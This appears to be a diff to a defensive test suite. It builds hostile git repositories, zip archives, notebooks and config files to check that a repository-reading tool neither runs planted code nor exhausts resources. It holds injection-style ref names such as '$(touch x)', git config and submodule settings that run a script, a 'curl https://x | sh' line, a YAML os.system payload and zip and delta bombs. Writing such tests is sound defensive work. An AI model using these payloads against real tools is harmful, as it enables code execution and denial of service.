@@ -19,7 +19,9 @@ import subprocess
 import sys
 import threading
 import time
+import warnings
 import zipfile
+import zlib
 from collections.abc import Callable, Iterator, Sequence
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -273,11 +275,13 @@ def configuration(trap: Trap) -> str:
 """
 
 
-def planted(folder: Path, trap: Trap) -> Path:
+def planted(folder: Path, trap: Trap, lost: str | None = None) -> Path:
     """Make a repository whose configuration, included files, attributes and hooks all run the trap's script."""
     attributes = "* filter=x diff=x merge=x ident working-tree-encoding=utf-16\n"
     path = make_repo(folder / "r", {**SHOP, ".gitattributes": attributes, "shop/.gitattributes": attributes})
     git = path / ".git"
+    if lost is not None:
+        lose(path, lost)
     (git / "config").write_text(configuration(trap))
     (git / "config.worktree").write_text(configuration(trap))
     (trap.folder / "included").write_text(f"[core]\n\tfsmonitor = {trap.script}\n[diff]\n\texternal = {trap.script}\n")
@@ -297,23 +301,22 @@ def commands_in_configuration_attributes_and_hooks(folder: Path, trap: Trap) -> 
 
 @case(READ, skips("shop/net.py"))
 def promisor_with_a_missing_blob(folder: Path, trap: Trap) -> Path:
-    path = planted(folder, trap)
-    return lose(path, "shop/net.py")
+    return planted(folder, trap, lost="shop/net.py")
 
 
 @case(READ, skips("shop/net.py"))
 def promisor_at_an_address_with_a_missing_blob(folder: Path, trap: Trap) -> Path:
-    path = make_repo(folder / "r", SHOP)
+    path = lose(make_repo(folder / "r", SHOP), "shop/net.py")
     (path / ".git" / "config").write_text(
         "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = origin\n"
         f'[remote "origin"]\n\turl = {trap.url}\n\tpromisor = true\n\tpartialclonefilter = blob:none\n'
     )
-    return lose(path, "shop/net.py")
+    return path
 
 
 def lose(path: Path, name: str) -> Path:
     git = path / ".git"
-    blob = run_git(path, "ls-tree", "main", name).split()[2] if name else ""
+    blob = run_git(path, "rev-parse", f"main:{name}")
     folder = git / "objects" / "pack"
     for pack in list(folder.glob("*.pack")):
         data = pack.read_bytes()
@@ -347,7 +350,9 @@ def configuration_that_is_no_configuration(folder: Path, trap: Trap) -> Path:
 
 @case(READ, has_route)
 def submodules(folder: Path, trap: Trap) -> Path:
-    modules = f'[submodule "a"]\n\tpath = a\n\turl = ext::{trap.script}\n[submodule "b"]\n\tpath = b\n\turl = {trap.url}\n'
+    modules = (
+        f'[submodule "a"]\n\tpath = a\n\turl = ext::{trap.script}\n[submodule "b"]\n\tpath = b\n\turl = {trap.url}\n'
+    )
     path = make_repo(folder / "r", {**SHOP, ".gitmodules": modules})
     git = path / ".git"
     entries = [(FOLDER, "shop", run_git(path, "rev-parse", "main:shop"))]
@@ -407,7 +412,10 @@ def linked(name: str) -> Maker:
         path = make_repo(folder / "r", SHOP)
         run_git(path, "pack-refs", "--all")
         run_git(other, "pack-refs", "--all")
-        ours, theirs = path / ".git" / name if name else path / ".git", other / ".git" / name if name else other / ".git"
+        ours, theirs = (
+            path / ".git" / name if name else path / ".git",
+            other / ".git" / name if name else other / ".git",
+        )
         shutil.rmtree(ours) if ours.is_dir() else ours.unlink(missing_ok=True)
         ours.symlink_to(theirs)
         return path
@@ -462,7 +470,9 @@ def pipe_as_a_pack(folder: Path, trap: Trap) -> Path:
 def file_among_the_folders_of_objects(folder: Path, trap: Trap) -> Path:
     git = objects.empty_git(folder / "r.git")
     (git / "objects" / "00").write_text("no folder")
-    blob = objects.put(git, "blob", SERVICE.replace("from shop.prices import price", "from math import exp as price").encode())
+    blob = objects.put(
+        git, "blob", SERVICE.replace("from shop.prices import price", "from math import exp as price").encode()
+    )
     objects.commit_of(git, objects.tree(git, [(FILE, "service.py", blob)]))
     return git
 
@@ -537,7 +547,7 @@ for name, text in {
     CASES[f"head_{name}"] = Case(headed(text), REFUSED)
 
 
-@case(READ, tells("empty-repository"))
+@case(REFUSED)
 def head_at_a_branch_that_names_itself(folder: Path, trap: Trap) -> Path:
     path = make_repo(folder / "r", SHOP)
     (path / ".git" / "refs" / "heads" / "main").write_text("ref: refs/heads/main\n")
@@ -555,7 +565,20 @@ def head_at_a_tree(folder: Path, trap: Trap) -> Path:
 def odd_names_of_refs(folder: Path, trap: Trap) -> Path:
     path = make_repo(folder / "r", SHOP)
     sha = run_git(path, "rev-parse", "main")
-    odd = ["--upload-pack=x", "-x", "a b", "a\tb", "$(touch x)", "é", "..", "a..b", "a.lock", "HEAD", "@{-1}", "x" * 1000]
+    odd = [
+        "--upload-pack=x",
+        "-x",
+        "a b",
+        "a\tb",
+        "$(touch x)",
+        "é",
+        "..",
+        "a..b",
+        "a.lock",
+        "HEAD",
+        "@{-1}",
+        "x" * 1000,
+    ]
     (path / ".git" / "packed-refs").write_text("".join(f"{sha} refs/heads/{name}\n" for name in odd))
     (path / ".git" / "refs" / "heads" / "-x").write_text(sha + "\n")
     (path / ".git" / "refs" / "heads" / "a\nb").write_text(sha + "\n")
@@ -602,7 +625,7 @@ for name, who in {
     "zone": "A <ada@example.org> 1700000000 +9999",
     "brackets": "<<<>>> <a>b<c>@<>> 1700000000 +0000",
 }.items():
-    CASES[f"date_{name}"] = Case(dated(who), READ, has_route)
+    CASES[f"date_{name}"] = Case(dated(who), READ, lambda report: report["commit"]["committed_at"].endswith("Z"))
 
 
 @case(None)
@@ -674,7 +697,7 @@ CASES["a_folder_that_is_called_a_file"] = Case(
     with_tree(lambda git, blob, link: [(FILE, "lib.py", objects.tree(git, []))]), None
 )
 CASES["a_missing_folder"] = Case(with_tree(lambda git, blob, link: [(FOLDER, "lib", "1" * 40)]), None)
-CASES["20000_empty_folders"] = Case(
+CASES["many_empty_folders"] = Case(
     with_tree(
         lambda git, blob, link: [(FOLDER, f"e{number:05}", objects.put(git, "tree", b"")) for number in range(20_000)]
     ),
@@ -694,7 +717,7 @@ def a_tree_3000_deep(folder: Path, trap: Trap) -> Path:
 
 
 @case(None)
-def a_tree_100000_deep(folder: Path, trap: Trap) -> Path:
+def a_tree_20000_deep(folder: Path, trap: Trap) -> Path:
     git = objects.empty_git(folder / "r.git")
     top = objects.put(git, "tree", b"")
     for _ in range(20_000):
@@ -785,7 +808,9 @@ def a_circle_of_deltas(folder: Path, trap: Trap) -> Path:
 
 
 def beside_service(git: Path, files: dict[str, str]) -> Path:
-    blob = objects.put(git, "blob", SERVICE.replace("from shop.prices import price", "from math import exp as price").encode())
+    blob = objects.put(
+        git, "blob", SERVICE.replace("from shop.prices import price", "from math import exp as price").encode()
+    )
     entries = sorted([*files.items(), ("service.py", blob)])
     objects.commit_of(git, objects.tree(git, [(FILE, name, sha) for name, sha in entries]))
     return git
@@ -795,8 +820,6 @@ def doubled(count: int, small: int) -> Maker:
     """Make `small` files of ten bytes, each cut out of a base that doubles from delta to delta up to 2**count KB."""
 
     def make(folder: Path, trap: Trap) -> Path:
-        import zlib
-
         git = objects.empty_git(folder / "r.git")
         size, sha = 1024, f"{0:040x}"
         packed = [(sha, objects.head(objects.BLOB, size) + zlib.compress(b"#" * size))]
@@ -808,7 +831,8 @@ def doubled(count: int, small: int) -> Maker:
             size *= 2
         files = {}
         for number in range(small):
-            files[f"bomb{number:04}.py"] = name = f"{1000 + number:040x}"
+            name = f"{1000 + number:040x}" if small > 1 else hashlib.sha1(b"blob 10\0" + b"#" * 10).hexdigest()
+            files[f"bomb{number:04}.py"] = name
             packed.append((name, objects.ref_delta(sha, size, 10, objects.copy(number, 10))))
         objects.write_pack(git, packed)
         return beside_service(git, files)
@@ -816,7 +840,7 @@ def doubled(count: int, small: int) -> Maker:
     return make
 
 
-CASES["small_file_cut_out_of_256_mb"] = Case(doubled(18, 1), READ, has_route)
+CASES["small_file_cut_out_of_64_mb"] = Case(doubled(16, 1), READ, skips())
 CASES["small_file_cut_out_of_4_gb"] = Case(doubled(22, 1), READ, skips("bomb0000.py"))
 CASES["300_small_files_cut_out_of_1_gb"] = Case(
     doubled(20, 300), READ, skips(*(f"bomb{number:04}.py" for number in range(300)))
@@ -827,6 +851,15 @@ CASES["300_small_files_cut_out_of_1_gb"] = Case(
 def a_blob_of_300_mb(folder: Path, trap: Trap) -> Path:
     git = objects.empty_git(folder / "r.git")
     return beside_service(git, {"big.py": objects.put_zeros(git, "blob", b"", 300)})
+
+
+@case(READ, skips("false.py"))
+def an_object_under_a_false_name(folder: Path, trap: Trap) -> Path:
+    git = objects.empty_git(folder / "r.git")
+    true = objects.put(git, "blob", b"x = 1\n")
+    false = objects.put(git, "blob", NET.encode())
+    shutil.copy(git / "objects" / false[:2] / false[2:], git / "objects" / true[:2] / true[2:])
+    return beside_service(git, {"false.py": true})
 
 
 @case(READ, skips("liar.py"))
@@ -955,15 +988,16 @@ def zip_overlap(folder: Path, trap: Trap) -> Path:
             info = member(f"b{number}.py")
             shown = archive.filelist[0]
             info.header_offset, info.CRC = shown.header_offset, shown.CRC
-            info.compress_type, info.compress_size, info.file_size = shown.compress_type, shown.compress_size, shown.file_size
+            info.compress_type, info.compress_size, info.file_size = (
+                shown.compress_type,
+                shown.compress_size,
+                shown.file_size,
+            )
             archive.filelist.append(info)
     return folder / "a.zip"
 
 
-@pytest.mark.filterwarnings("ignore:Duplicate name")
 def twice(archive: zipfile.ZipFile) -> None:
-    import warnings
-
     with warnings.catch_warnings():
         warnings.simplefilter("ignore")
         archive.writestr("shop/net.py", "x = 1\n")
@@ -992,13 +1026,12 @@ def zip_of_300_mb(folder: Path, trap: Trap) -> Path:
 @case(REFUSED)
 def zip_of_two_million_names(folder: Path, trap: Trap) -> Path:
     folder.mkdir()
-    entry = bytearray(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", *[20, 20, 0, 0, 0, 0], *[0, 0, 0], *[1, 0, 0, 0, 0], *[0, 0]) + b"a")
+    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
     count = 2_000_000
     size = count * len(entry)
     with (folder / "a.zip").open("wb") as file:
         for _ in range(200):
-            file.write(bytes(entry) * (count // 200))
-        file.write(struct.pack("<4sLQ2H2L2Q2Q", b"PK\x06\x06", *[44, 0][:1], 0, 45, 45, 0, 0, count, count, size, 0)[:0])
+            file.write(entry * (count // 200))
         file.write(struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, 0))
         file.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, size, 1))
         file.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
@@ -1023,7 +1056,11 @@ def zip_that_unpacks_to_gigabytes(folder: Path, trap: Trap) -> Path:
             info = member(f"t{number % 10}{number // 10}")
             info.filename = info.orig_filename = f"t{number:02}bin"[:6]
             info.CRC, info.compress_type = first.CRC, first.compress_type
-            info.compress_size, info.file_size, info.header_offset = first.compress_size, first.file_size, archive.fp.tell()  # type: ignore[union-attr]
+            info.compress_size, info.file_size, info.header_offset = (
+                first.compress_size,
+                first.file_size,
+                archive.fp.tell(),
+            )  # type: ignore[union-attr]
             archive.fp.write(packed.replace(b"t0.bin", info.filename.encode(), 1))  # type: ignore[union-attr]
             archive.filelist.append(info)
             archive.start_dir = archive.fp.tell()  # type: ignore[union-attr]
@@ -1080,60 +1117,127 @@ file("codec-escape.py", "# coding: unicode_escape\nx = '\\ud800'\n", skipped=Non
 file("codec-utf16.py", b"# coding: utf-16\nx = 1\n", skipped=None)
 file("one-line.py", b"x = '" + b"a" * (10 << 20) + b"'\n")
 file("statements.py", "x;" * 500_000 + "\n", skipped=None)
-file("functions.py", "def f(): pass\n" * 74_000, skipped=None)
+file("functions.py", "def f(): pass\n" * 10_000, skipped=None)
 file("calls-of-calls.py", "f()\n" * 260_000, skipped=None)
 file("imports.py", "import a\n" * 116_000, skipped=None)
-file("self.py", "from self import *\nimport self as self\nself = self.self\nclass A(A): pass\nclass B(C): pass\nclass C(B): pass\n")
-CASES.pop(next(key for key in CASES if key.endswith("_self.py")))
 file(
     "loops.py",
     "from loops import *\nimport loops as loops\nloops = loops.loops\nclass A(A): pass\nclass B(C): pass\nclass C(B): pass\n",
     skipped=False,
 )
-file("effects.py", "import os\nos.system('touch MARKER')\nopen('MARKER', 'w')\n__import__('os').mkfifo('MARKER')\n", skipped=False)
+file(
+    "effects.py",
+    "import os\nos.system('touch MARKER')\nopen('MARKER', 'w')\n__import__('os').mkfifo('MARKER')\n",
+    skipped=False,
+)
 file("conftest.py", "import pathlib\npathlib.Path('MARKER').write_text('x')\n", skipped=False)
 file("sitecustomize.py", "open('MARKER', 'w')\n", skipped=False)
 file("setup.py", "import os\nos.system('touch MARKER')\nfrom setuptools import setup\nsetup()\n", skipped=False)
-file("surrogates.py", 'from fastapi import FastAPI\napp = FastAPI()\n@app.get("/\\ud800\\x00\\x1b[2J")\ndef f(): return 1\n', skipped=None)
+file(
+    "surrogates.py",
+    'from fastapi import FastAPI\napp = FastAPI()\n@app.get("/\\ud800\\x00\\x1b[2J")\ndef f(): return 1\n',
+    skipped=None,
+)
 
-file("huge.ipynb", json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = 1", "outputs": ["a" * 4_000_000]}]}))
+file(
+    "huge.ipynb",
+    json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = 1", "outputs": ["a" * 4_000_000]}]}),
+)
 file(
     "outputs.ipynb",
     json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = 1", "outputs": ["a" * 900_000]}]}),
     skipped=False,
 )
 file("invalid.ipynb", '{"cells": [')
-file("nan.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": NaN}, {"cell_type": "code", "source": -Infinity}]}', skipped=None)
+file(
+    "nan.ipynb",
+    '{"nbformat": 4, "cells": [{"cell_type": "code", "source": NaN}, {"cell_type": "code", "source": -Infinity}]}',
+    skipped=None,
+)
 file("deep.ipynb", "[" * 400_000 + "]" * 400_000)
 file("deep-cells.ipynb", '{"cells": ' + "[" * 400_000 + "]" * 400_000 + "}")
 file("digits.ipynb", '{"nbformat": 4, "cells": [' + "9" * 900_000 + "]}", skipped=None)
-file("many.ipynb", json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": "f()"}] * 20_000}), skipped=None)
-file("types.ipynb", json.dumps({"cells": [None, 1, "x", {"cell_type": "code", "source": {"a": 1}}, {"cell_type": 5}]}), skipped=None)
+file(
+    "many.ipynb", json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": "f()"}] * 20_000}), skipped=None
+)
+file(
+    "types.ipynb",
+    json.dumps({"cells": [None, 1, "x", {"cell_type": "code", "source": {"a": 1}}, {"cell_type": 5}]}),
+    skipped=None,
+)
 file("surrogate.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = \'\\ud800\'"}]}', skipped=None)
-file("bang.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": "!touch MARKER\n%run x.py\n%%bash\ntouch MARKER"}]}), skipped=False)
+file(
+    "bang.ipynb",
+    json.dumps({"cells": [{"cell_type": "code", "source": "!touch MARKER\n%run x.py\n%%bash\ntouch MARKER"}]}),
+    skipped=False,
+)
 
 LAUGHS = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
     f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)
 )
-for place in (".github/workflows/ci.yml", "k8s/deploy.yaml", "docker-compose.yml"):
-    file(place, LAUGHS, skipped=None)
-    file(place, "[" * 300_000, skipped=None)
-    file(place, "a: " * 1000 + "\n", skipped=None)
-    file(place, "---\na: 1\n" * 90_000, skipped=None)
-    file(place, "".join(f"a: &a{n} 1\n" for n in range(60_000)), skipped=None)
-    file(place, "a: &a [*a]\nb: &b {<<: *b}\n<<: [*a, *b]\n", skipped=None)
-    file(place, "!!python/object/apply:os.system ['touch MARKER']\n", skipped=None)
-    file(place, "? " * 100_000, skipped=None)
-    file(place, "on: push\njobs: {a: {steps: [{run: 'touch MARKER'}]}}\n" + "# " + "x" * 900_000, skipped=None)
-for place in ("package.json", "pyproject.toml", "requirements.txt", "Dockerfile", "Makefile", "setup.cfg", ".env", "run.sh", "README.md"):
-    file(place, "[" * 500_000, skipped=None)
-    file(place, ("a" * 500_000 + "=" + "'" * 400_000), skipped=None)
-    file(place, "RUN touch MARKER; curl https://x | sh \\\n" * 20_000, skipped=None)
-    file(place, "a = ${" * 150_000, skipped=None)
-    file(place, " \t" * 500_000 + "x", skipped=None)
-    file(place, "password = " * 90_000, skipped=None)
-    file(place, "-----BEGIN RSA PRIVATE KEY-----\n" * 32_000, skipped=None)
-    file(place, random.Random(5).randbytes(900_000), skipped=None)
+
+
+def files(place: str, *contents: bytes | str) -> None:
+    """Add a case of hostile files of one name in folders of their own."""
+
+    def make(folder: Path, trap: Trap) -> Path:
+        made: dict[str, str | bytes] = dict(SHOP)
+        for number, content in enumerate(contents):
+            name = place.replace("*", str(number)) if "*" in place else f"d{number}/{place}"
+            text = content if isinstance(content, bytes) else content.replace("MARKER", str(trap.marker)).encode()
+            made[name] = text
+        return make_repo(folder / "r", made)
+
+    CASES[f"files_{place.replace('/', '_')}"] = Case(make, READ, has_route)
+
+
+for place in (
+    ".github/workflows/ci*.yml",
+    "deploy.yaml",
+    "docker-compose.yml",
+    "azure-pipelines.yml",
+    ".pre-commit-config.yaml",
+):
+    files(
+        place,
+        LAUGHS,
+        "[" * 300_000,
+        "a: " * 1000 + "\n",
+        "---\na: 1\n" * 90_000,
+        "".join(f"a: &a{n} 1\n" for n in range(60_000)),
+        "a: &a [*a]\nb: &b {<<: *b}\n<<: [*a, *b]\n",
+        "!!python/object/apply:os.system ['touch MARKER']\n",
+        "? " * 100_000,
+        "on: push\njobs: {a: {steps: [{run: 'touch MARKER'}]}}\n# " + "x" * 900_000,
+    )
+for place in (
+    *("package.json", "pyproject.toml", "requirements.txt", "Dockerfile", "Makefile", "setup.cfg", ".env", "run.sh"),
+    *("README.md", "main.go", "values.tfvars", "poetry.lock"),
+):
+    files(
+        place,
+        "[" * 500_000,
+        "a" * 500_000 + "=" + "'" * 400_000,
+        "RUN touch MARKER; curl https://x | sh \\\n" * 20_000,
+        "a = ${" * 150_000,
+        " \t" * 500_000 + "x",
+        "password = " * 90_000,
+        "-----BEGIN RSA PRIVATE KEY-----\n" * 32_000,
+        random.Random(5).randbytes(900_000),
+    )
+
+
+@case(READ, lambda report: not has_route(report))
+def dense_files(folder: Path, trap: Trap) -> Path:
+    """Facts of these files take a hundred times their bytes: they must not be held for as many as there are."""
+    return make_repo(folder / "r", {f"m{number}.py": f"x = {number}\n" + "f()\n" * 200_000 for number in range(12)})
+
+
+@case(READ, tells("max-seconds"))
+def slow_files(folder: Path, trap: Trap) -> Path:
+    """Each takes nearly as long as a file may; together they must not."""
+    slow = "# coding: punycode\n" + "x = 1\n" * 100_000 + "-" + "a9" * 40_000
+    return make_repo(folder / "r", {f"m{number}.py": f"{slow}{number}" for number in range(30)})
 
 
 @pytest.mark.parametrize("name", CASES)
